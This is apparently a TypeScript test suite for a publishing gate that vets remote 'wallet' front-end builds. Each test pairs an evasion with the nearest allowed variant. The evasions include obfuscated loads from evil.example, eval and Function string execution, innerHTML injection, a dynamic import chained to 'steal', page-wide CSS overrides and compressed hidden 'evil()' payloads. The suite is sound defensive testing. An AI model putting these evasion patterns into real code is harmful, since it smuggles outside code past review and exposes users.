import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compressBrotli, compressGzip } from '@ank/build/compress';
import { sha256IntegrityOfBytes } from '@ank/build/integrity';
import type { RemoteDescription } from '@ank/protocol/registry';
import { makeFakeRemoteBuild, makeFakeShellBuild, type RemoteBuild } from '@ank/testkit/builds';
import { makeTestSite } from '@ank/testkit/site';
import { withNewestVersion } from '../built/registeredRemotes';
import { publishBuilds } from '../publish/publishBuilds';
import { EMPTY_REGISTRY } from '../publish/revisions';
import { parseSentBuild } from '../registry/parseSentBuild';
import { findAllGateFaults } from './gate';
import { GateRefusal } from './gateRefusal';

const { version, kernel, contract } = makeFakeShellBuild().shell;
const live = { ...EMPTY_REGISTRY, shell: { version, kernel, contract } };

const findWalletFaults = (build: RemoteBuild) => {
  const { name, description, candidate } = build.remote;
  return findAllGateFaults(build, { live, next: withNewestVersion(live, name, description, candidate) });
};

const makeBuildWithCode = (code: string) => makeFakeRemoteBuild('wallet', '1.0.0', { code });
const makeBuildWithFile = (name: string, bytes: Buffer | string, screen?: string): RemoteBuild => {
  const build = makeFakeRemoteBuild('wallet', '1.0.0', screen === undefined ? {} : { code: screen });
  build.files.push({ path: `r/wallet/1.0.0/${name}`, bytes: Buffer.from(bytes) });
  return build;
};
const makeBuildWithStyles = (css: string): RemoteBuild => {
  const build = makeBuildWithFile('Panel.css', css);
  const src = '/r/wallet/1.0.0/Panel.css';
  build.remote.candidate.styles = { Screen: [{ src, integrity: sha256IntegrityOfBytes(css) }] };
  build.files = build.files.filter(({ path }) => !path.endsWith('Screen.css'));
  return build;
};
const screen = makeFakeRemoteBuild('wallet', '1.0.0').files.find(({ path }) =>
  path.endsWith('Screen.js'),
)?.bytes;
const makeBuildWithRoutes = (...paths: string[]): RemoteBuild =>
  makeFakeRemoteBuild('wallet', '1.0.0', {
    description: {
      routes: paths.map((path) => ({
        ...{ path, layout: 'main', login: true, betting: false, screen: 'Screen', start: true },
      })) as RemoteDescription['routes'],
    },
  });
const makeBuildWithManyRoutes = (count: number) =>
  makeBuildWithRoutes(...Array.from({ length: count }, (_, at) => `/wallet/page-${at}`));
const makeBuildListingFile = (name: string): RemoteBuild => {
  const build = makeBuildWithFile(name, 'late();');
  const late = { src: `/r/wallet/1.0.0/${name}`, integrity: sha256IntegrityOfBytes('late();') };
  build.remote.candidate.files.Screen?.push(late);
  return build;
};

/** What evades a reading of the surface, its rule, and the nearest that a remote may do. */
const evasions: Record<string, [RemoteBuild, string, RemoteBuild][]> = {
  styles: [
    [
      makeBuildWithStyles('html:not(.x){top:0}'),
      'page-wide style',
      makeBuildWithStyles('.x:not(html){top:0}'),
    ],
    [
      makeBuildWithStyles(':is(body,.x){top:0}'),
      'page-wide style',
      makeBuildWithStyles(':is(.y,.x) p{top:0}'),
    ],
    [
      makeBuildWithStyles(':where(.x,:not(.x)){top:0}'),
      'page-wide style',
      makeBuildWithStyles(':where(.x){top:0}'),
    ],
    [makeBuildWithStyles('*{top:0}'), 'page-wide style', makeBuildWithStyles('.x *{top:0}')],
    [
      makeBuildWithStyles(':nth-child(1 of html){top:0}'),
      'page-wide style',
      makeBuildWithStyles(':nth-child(1 of .x){top:0}'),
    ],
    [
      makeBuildWithStyles('html:has(p){top:0}'),
      'page-wide style',
      makeBuildWithStyles('html:has(.x){top:0}'),
    ],
    [
      makeBuildWithStyles('.x{html:not(&){top:0}}'),
      'page-wide style',
      makeBuildWithStyles('.x{html &{top:0}}'),
    ],
    [
      makeBuildWithStyles('.x{:is(html,&){top:0}}'),
      'page-wide style',
      makeBuildWithStyles('.x{:is(b,i){top:0}}'),
    ],
    [
      makeBuildWithStyles('.x{@media print{html:not(&){top:0}}}'),
      'page-wide style',
      makeBuildWithStyles('.x{@media print{p{top:0}}}'),
    ],
    [makeBuildWithStyles('html{& p{top:0}}'), 'page-wide style', makeBuildWithStyles('.x{& p{top:0}}')],
    [
      makeBuildWithStyles('@layer a{@supports (top:0){html{top:0}}}'),
      'page-wide style',
      makeBuildWithStyles('@layer a{.x{top:0}}'),
    ],
    [
      makeBuildWithStyles('@scope(html){img{top:0}}'),
      'page-wide style',
      makeBuildWithStyles('@scope(.x){img{top:0}}'),
    ],
    // Browsers take the mark of UTF-8 at a file's head away.
    [makeBuildWithStyles('\uFEFFhtml{top:0}'), 'page-wide style', makeBuildWithStyles('\uFEFF.x{top:0}')],
    [
      makeBuildWithStyles('@import "other.css";.x{top:0}'),
      'imported style',
      makeBuildWithStyles('.x{top:0}'),
    ],
    [
      makeBuildWithStyles('@font-face{font-family:"Noto Sans";src:url(a.woff2)}'),
      'font name',
      makeBuildWithStyles(
        '@font-face{font-family:"Wallet Sans";src:url(a.woff2)}.x{font-family:"Noto Sans"}',
      ),
    ],
    [
      makeBuildWithStyles('.x{content:"\n}html{top:0}.y{content:"}'),
      'style sheet',
      makeBuildWithStyles('.x{content:"}html{top:0}.y{"}'),
    ],
  ],
  deep: [
    ['@media print{', '.x{'],
    ['.x{content:"}";', '.x{content:"{";top:0}'],
    ['u\\72l(a"){.x{', '.x{background:url(a.png)}'],
    [':is(', '.x{top:0}'],
    ['.x{);', '.x{top:0;}'],
  ].map(([deep = '', flat = '']) => [
    makeBuildWithStyles(deep.repeat(5_000)),
    'style sheet',
    makeBuildWithStyles(flat.repeat(100)),
  ]),
  addresses: [
    [
      makeBuildWithCode('load("//evil.example/x")'),
      'absolute host',
      makeBuildWithCode('load("/x//evil.example")'),
    ],
    [
      makeBuildWithCode('load("\\\\/evil.example/x")'),
      'absolute host',
      makeBuildWithCode('match("\\\\/*$")'),
    ],
    [
      makeBuildWithCode('load("wss:evil.example/x")'),
      'absolute host',
      makeBuildWithCode('say("https is needed")'),
    ],
    [
      makeBuildWithCode('load("https://react.dev@evil.example")'),
      'absolute host',
      makeBuildWithCode('say("https://react.dev/x")'),
    ],
    [
      makeBuildWithCode("load('ht'+'tps://ev'+'il.example')"),
      'absolute host',
      makeBuildWithCode("load('https://wa'+'.me/1')"),
    ],
    [
      makeBuildWithCode(`const a="https:";load(\`\${a}//evil.example\`)`),
      'absolute host',
      makeBuildWithCode(`load(\`\${a}//\${b}/x\`)`),
    ],
    [
      makeBuildWithCode('load("//evil".concat(".example"))'),
      'absolute host',
      makeBuildWithCode('load("/evil".concat(".example"))'),
    ],
    [
      makeBuildWithCode('load(["https:","","evil.example"].join("/"))'),
      'absolute host',
      makeBuildWithCode('load(["a","b"].join("/"))'),
    ],
    [
      makeBuildWithCode('const at={host:"evil."};let b;b="example";load("//"+at.host+b)'),
      'absolute host',
      makeBuildWithCode('load("//"+location.host)'),
    ],
    [
      makeBuildWithCode('put("<img src=\\"//evil.example/x\\">")'),
      'absolute host',
      makeBuildWithCode('say("see //notes.example")'),
    ],
    [
      makeBuildWithStyles('.x{background:url(//evil.example/x)}'),
      'absolute host',
      makeBuildWithStyles('.x{background:url(x.png)}'),
    ],
    [
      makeBuildWithStyles('.x{background:url("https:\\2f/evil.example")}'),
      'absolute host',
      makeBuildWithStyles('/* https://a.example */'),
    ],
  ],
  slices: [
    [
      makeBuildWithCode('const n="session";createSlice({name:n})'),
      'slice name',
      makeBuildWithCode(`const n="wallet";createSlice({name:\`\${n}Pay\`})`),
    ],
    [
      makeBuildWithCode('function f(n){var t="session";(0,r.createSlice)({name:t})}f("walletPay")'),
      'slice name',
      makeBuildWithCode('var t="session";function f(){var t="walletPay";(0,r.createSlice)({name:t})}'),
    ],
    [
      makeBuildWithCode('const names={a:"session"};createSlice({name:names.a})'),
      'slice name',
      makeBuildWithCode('const names={a:"walletPay"};createSlice({name:names.a})'),
    ],
    [
      makeBuildWithCode('const {createSlice:c}=kit;c({name:"session"})'),
      'slice name',
      makeBuildWithCode('const {createAction:c}=kit;c({name:"session"})'),
    ],
    [
      makeBuildWithCode('e({name:"session",initialState:{},reducers:{}})'),
      'slice name',
      makeBuildWithCode('e({name:"session",children:[]})'),
    ],
    [
      makeBuildWithCode('createSlice({name:"walletPay",reducerPath:"session"})'),
      'slice name',
      makeBuildWithCode('createSlice({name:"walletPay",reducerPath:"walletPays"})'),
    ],
    [
      makeBuildWithCode('createSlice({name:read()})'),
      'slice name',
      makeBuildWithCode('createSlice({name:"wallet"+read()})'),
    ],
    [
      makeBuildWithCode('let n="walletPay";n="session";createSlice({name:n})'),
      'slice name',
      makeBuildWithCode('let n;n="walletPay";createSlice({name:n})'),
    ],
  ],
  'texts as code': [
    [makeBuildWithCode('eval("1")'), 'text as code', makeBuildWithCode('const eval2=text=>text;eval2("1")')],
    [makeBuildWithCode('(0,eval)("1")'), 'text as code', makeBuildWithCode('model.eval("1")')],
    [
      makeBuildWithCode('window["ev"+"al"]("1")'),
      'text as code',
      makeBuildWithCode('f(function(eval){eval("1")})'),
    ],
    [
      makeBuildWithCode('const f=Function;new f("a","return a")'),
      'text as code',
      makeBuildWithCode('Function("return this")()'),
    ],
    [
      makeBuildWithCode('Function("return "+e.publicPath)()'),
      'text as code',
      makeBuildWithCode(
        'eval("require");Function("return "+e.getPublicPath)()();Function(e.getPublicPath)()',
      ),
    ],
    [
      makeBuildWithCode('box.innerHTML=words'),
      'text as markup',
      makeBuildWithCode('box.textContent=box.innerHTML'),
    ],
    [
      makeBuildWithCode('box["inner"+"HTML"]+=words'),
      'text as markup',
      makeBuildWithCode('const innerHTML=words;innerHTML.length'),
    ],
    [
      makeBuildWithCode('box.insertAdjacentHTML("beforeend",words)'),
      'text as markup',
      makeBuildWithCode('box.append(words)'),
    ],
    [
      makeBuildWithCode('window.document.write(words)'),
      'text as markup',
      makeBuildWithCode('stream.write(words)'),
    ],
    [
      makeBuildWithCode('jsx("p",{dangerouslySetInnerHTML:{__html:words}})'),
      'text as markup',
      makeBuildWithCode('jsx("p",{children:words})'),
    ],
    [
      makeBuildWithCode('frame.srcdoc=words'),
      'text as markup',
      makeBuildWithCode(
        'const policy=trustedTypes.createPolicy("dompurify",{});body.innerHTML=policy.createHTML(words)',
      ),
    ],
    [
      makeBuildWithCode('document.createElement("style")'),
      'style by script',
      makeBuildWithCode('document.createElement("p")'),
    ],
    [
      makeBuildWithCode('const tag="STYLE";d.createElement(tag)'),
      'style by script',
      makeBuildWithCode('styles.createElement(kind)'),
    ],
    [
      makeBuildWithCode('(0,r.jsx)("style",{children:css})'),
      'style by script',
      makeBuildWithCode('(0,r.jsx)("p",{style:{top:0}})'),
    ],
    [
      makeBuildWithCode('box.setAttribute("style",css)'),
      'style by script',
      makeBuildWithCode('box.setAttribute("data-style",css)'),
    ],
    [
      makeBuildWithCode('(()=>{}).constructor("go()")()'),
      'text as code',
      makeBuildWithCode('new error.constructor("go()")'),
    ],
    [makeBuildWithCode('setTimeout("go()",1)'), 'text as code', makeBuildWithCode('setTimeout(go,1)')],
    [
      makeBuildWithCode('self.setInterval("go("+n+")",1)'),
      'text as code',
      makeBuildWithCode('later.setInterval("x",1)'),
    ],
    [
      makeBuildWithCode(`new Function("callbacks",\`import("\${url}").then(steal)\`)`),
      'text as code',
      makeBuildWithCode(
        `const c=".then(callbacks[0]).catch(callbacks[1])";new Function("callbacks",\`import("\${url}")\${c}\`)`,
      ),
    ],
  ],
  files: [
    [
      makeBuildWithFile('Screen.js.br', compressBrotli(Buffer.from('evil();'))),
      'packed copy',
      makeBuildWithFile('Screen.js.br', compressBrotli(screen ?? Buffer.of())),
    ],
    [
      makeBuildWithFile('Screen.js.gz', compressGzip(Buffer.from('evil();'))),
      'packed copy',
      makeBuildWithFile('Screen.js.gz', compressGzip(screen ?? Buffer.of())),
    ],
    [
      makeBuildWithFile('none.txt.gz', compressGzip(Buffer.from('alone'))),
      'packed copy',
      makeBuildWithFile('none.txt', 'alone'),
    ],
    ...['login.html', 'login.HTM', 'a.mjs', 'a.wasm', 'a.svg', 'a.xml'].map(
      (name): [RemoteBuild, string, RemoteBuild] => [
        makeBuildWithFile(name, '<p>'),
        'unlisted file',
        makeBuildWithFile('a.txt', '<p>'),
      ],
    ),
    [
      makeBuildWithFile('a.svg', '<svg/>', 'load("b.svg")'),
      'unlisted file',
      makeBuildWithFile('a.svg', '<svg/>', 'load("a.svg")'),
    ],
    [makeBuildListingFile('late.JS'), 'script', makeBuildListingFile('late.js')],
    [
      makeBuildWithFile('a.bin', Buffer.alloc(100_000_000)),
      'size of all files',
      makeBuildWithFile('a.bin', Buffer.alloc(1_000_000)),
    ],
  ],
  paths: [
    [makeBuildWithRoutes('/:page'), 'path of all', makeBuildWithRoutes('/wallet/:page')],
    [
      makeBuildWithRoutes('/wallet', '/:page/x'),
      'path of all',
      makeBuildWithRoutes('/wallet', '/wallet/:page/x'),
    ],
    [makeBuildWithManyRoutes(10_000), 'record size', makeBuildWithManyRoutes(100)],
    [makeBuildWithManyRoutes(300), 'record size', makeBuildWithManyRoutes(30)],
  ],
};

for (const [kind, rows] of Object.entries(evasions))
  test(`${kind}: each evasion is refused by its rule, with a way out, and the nearest that is allowed passes`, () => {
    for (const [at, [evasion, rule, allowed]] of rows.entries()) {
      const faults = findWalletFaults(evasion);
      assert.deepEqual([...new Set(faults.map((fault) => fault.rule))], [rule], `${kind}, row ${at}`);
      for (const { says, wayOut } of faults) assert.ok(says.length > 20 && wayOut.length > 20);
      assert.deepEqual(findWalletFaults(allowed), [], `${kind}, row ${at}: the allowed one`);
    }
  });

test('the service refuses a record and files that are too large before it reads what they say', () => {
  const parcel = { name: 'wallet', version: '1.0.0', says: { routes: 'x'.repeat(300_000) }, files: [] };
  assert.throws(
    () => parseSentBuild(parcel, []),
    (error) => error instanceof GateRefusal && /record size/.test(error.message),
  );
});

test('paths that only the code names are part of the record', async () => {
  const site = makeTestSite();
  const links = Array.from({ length: 15_000 }, (_, at) => `"/wallet/${at.toString(36)}"`);
  await publishBuilds(site.target, [makeFakeShellBuild()]);
  await assert.rejects(
    publishBuilds(site.target, [makeBuildWithCode(`go([${links}])`)]),
    /record size: each revision would carry/,
  );
  site.remove();
});
